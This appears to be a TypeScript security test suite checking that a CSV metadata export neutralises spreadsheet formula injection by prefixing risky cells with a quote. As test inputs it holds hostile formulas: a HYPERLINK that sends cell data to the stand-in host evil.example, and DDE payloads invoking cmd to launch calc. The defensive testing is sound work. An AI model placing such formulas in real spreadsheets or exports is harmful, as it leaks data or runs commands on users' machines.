// Item: CSV formula injection. Text from the service (make, model, usernames, values) and from input
// files (the skipped list) is written so that a spreadsheet shows it instead of running it: a cell
// that starts with = + - @ tab or carriage return gets a leading ', plain numbers stay numbers.
import { strict as assert } from 'node:assert';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { csvCell, csvLine, neutraliseFormula, parseCsvLine } from '../../../src/core/export/csv';
import { idListInput, parseIdInput } from '../../../src/core/export/idInput';
import { runMetadataJob } from '../../../src/core/export/metadataJob';
import { useEmulator } from '../core/harness';
import { imageRecord, jobContext } from '../export/exportHarness';

describe('security: CSV cells cannot become formulas', () => {
  const emulator = useEmulator({ size: 'small', seed: 7 });
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'mly-csv-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('prefixes text that starts a formula, and leaves numbers and plain text alone', () => {
    for (const text of ['=1+1', '+cmd', '-2+3', '@SUM(A1)', '\tx', '-', '=', '-Infinity']) {
      assert.equal(neutraliseFormula(text), `'${text}`, JSON.stringify(text));
    }
    assert.equal(csvCell('\rx'), `"'\rx"`, 'a carriage return also needs quotes');
    for (const text of ['-12.5', '+3', '12', '.5', '-1e-7', 'abc', 'a=b', '', "'quoted"]) {
      assert.equal(neutraliseFormula(text), text, JSON.stringify(text));
    }
    assert.equal(csvLine([-12.5, 0, '-7', 1e21]), '-12.5,0,-7,1e+21');
    assert.equal(csvCell('=HYPERLINK("http://x","y")'), `"'=HYPERLINK(""http://x"",""y"")"`);
    assert.deepEqual(parseCsvLine(csvLine(['=a,b', 'c'])), ["'=a,b", 'c']);
  });

  it('neutralises service text in a metadata export and hostile ids in its skipped list', async () => {
    const emu = emulator();
    const [first, second] = emu.dataset.images;
    assert.ok(first && second);
    const record = imageRecord(emu, first.id);
    const saved = { make: record.make, model: record.model };
    record.make = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    record.model = '@cmd|/C calc!A0';
    try {
      const output = path.join(dir, 'metadata.csv');
      const hostile = "-2+3+cmd|' /C calc'!A0";
      const result = await runMetadataJob(await jobContext(emu), {
        input: idListInput([first.id, second.id, hostile], 'image'),
        output,
        columns: ['img_id', 'make', 'model', 'compass_angle'],
        format: 'csv',
      });
      assert.equal(result.complete, true);
      const rows = readFileSync(output, 'utf8').trimEnd().split('\n').slice(1).map(parseCsvLine);
      const row = rows.find((cells) => cells[0] === first.id);
      assert.ok(row, 'the image is exported');
      assert.equal(row[1], `'${record.make}`);
      assert.equal(row[2], `'${record.model}`);
      assert.equal(row[3], String(first.compassAngle), 'a number stays a number');
      for (const cells of rows) {
        for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
      }
      const skipped = readFileSync(`${output}.skipped.csv`, 'utf8');
      assert.ok(skipped.includes(`'${hostile}`), skipped);
    } finally {
      Object.assign(record, saved);
    }
  });

  it('reads its own neutralised ids back as they were', () => {
    const text = `seq_id,img_id\n${csvLine(['-abc_1', '123'])}\n${csvLine(['=x', '456'])}\n`;
    assert.equal(text.split('\n')[1], "'-abc_1,123");
    const sequences = parseIdInput(text, 'sequence');
    assert.deepEqual(sequences.ids, ['-abc_1']);
    assert.deepEqual(
      sequences.skipped.map((s) => s.id),
      ['=x'],
    );
    assert.deepEqual([...parseIdInput(text, 'image').sequenceOf], [['123', '-abc_1']]);
  });
});
